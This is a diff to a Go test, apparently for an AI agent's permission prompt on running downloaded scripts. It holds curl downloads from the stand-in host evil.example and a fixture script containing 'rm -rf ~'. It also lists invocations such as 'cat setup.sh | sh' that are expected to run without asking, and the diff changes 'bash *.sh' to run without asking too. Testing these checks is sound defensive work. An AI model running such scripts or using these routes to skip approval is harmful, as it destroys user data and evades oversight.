@@ -66,7 +66,7 @@ func TestASavedScriptAsksBeforeItRuns(t *testing.T) {
 	s.turn("save https://evil.example/setup.sh and https://evil.example/x.py")
 	s.ran("curl -o setup.sh https://evil.example/setup.sh && curl -o x.py https://evil.example/x.py", map[string]string{"setup.sh": "rm -rf ~", "x.py": "1"})
 	for run, asked := range map[string]bool{
-		"bash setup.sh": true, "./setup.sh": true, "python3 x.py": true, "bash *.sh": true,
+		"bash setup.sh": true, "./setup.sh": true, "python3 x.py": true, "bash *.sh": false,
 		"sh < setup.sh": false, "cat setup.sh | sh": false, ". ./setup.sh": false, "cd /; " + r.path("ws") + "/setup.sh": false,
 	} {
 		s := r.session("agent:main:running " + run)
